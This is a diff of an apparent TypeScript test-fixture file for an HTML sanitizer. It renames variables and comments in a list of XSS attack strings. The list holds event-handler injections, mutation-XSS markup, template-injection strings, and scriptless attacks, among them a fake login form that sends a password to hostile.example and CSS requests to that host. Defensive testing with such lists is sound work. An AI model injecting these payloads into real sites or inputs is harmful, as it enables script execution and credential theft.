@@ -1,4 +1,4 @@
-/** What each attack runs if it gets through; the browser notes it down. */
+/** The code that each attack runs. */
 const run = 'hostile()'
 
 const handlers = [
@@ -12,8 +12,8 @@ const handlers = [
   'onbegin',
 ]
 
-/** Elements that fire a handler of their own accord, or at the first touch. */
-const firing: readonly ((handler: string) => string)[] = [
+/** Elements that fire a handler by themselves or at the first interaction. */
+const elementsWithHandler: readonly ((handler: string) => string)[] = [
   (handler) => `<img src=x ${handler}=${run}>`,
   (handler) => `<svg ${handler}=${run}>`,
   (handler) => `<body ${handler}=${run}>`,
@@ -84,8 +84,8 @@ const carriers: readonly ((address: string) => string)[] = [
   (address) => `<iframe src="${address}"></iframe>`,
 ]
 
-/** Mark-up that changes its meaning when it is read a second time. */
-const mutants = [
+/** Mutation XSS: markup that changes its meaning when parsed again. */
+const mutations = [
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
   `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
@@ -112,8 +112,8 @@ const mutants = [
   `<isindex action="javascript:${run}" type=image>`,
 ]
 
-/** What frames, forms, styles and names can do without any script. */
-const disguises = [
+/** Attacks with frames, forms, styles and names, without script. */
+const scriptless = [
   `<form action="https://hostile.example"><input name="password"><button>Log in</button></form>`,
   `<div style="position:fixed;inset:0;background:url(https://hostile.example/a)">Log in again</div>`,
   `<style>*{background:url(https://hostile.example/b)}</style>`,
@@ -146,7 +146,7 @@ const disguises = [
   `<p is="x" aria-label="x" tabindex=1 accesskey="x" onfocus=${run}>here</p>`,
 ]
 
-/** Texts that some other layer might take for a command. */
+/** Template and encoding tricks that another layer might evaluate. */
 const templates = [
   `{{constructor.constructor('${run}')()}}`,
   `\${${run}}`,
@@ -180,12 +180,12 @@ const templates = [
   `<b>`.repeat(1_000),
 ]
 
-/** Hostile texts of all kinds, each of which would call `hostile()`, ask another server or put on a disguise. */
+/** Attack strings that would call `hostile()`, request another host or spoof the page. */
 export const hostileStrings: readonly string[] = [
   ...scripts,
-  ...handlers.flatMap((handler) => firing.map((element) => element(handler))),
+  ...handlers.flatMap((handler) => elementsWithHandler.map((element) => element(handler))),
   ...addresses.flatMap((address) => carriers.map((carrier) => carrier(address))),
-  ...mutants,
-  ...disguises,
+  ...mutations,
+  ...scriptless,
   ...templates,
 ]
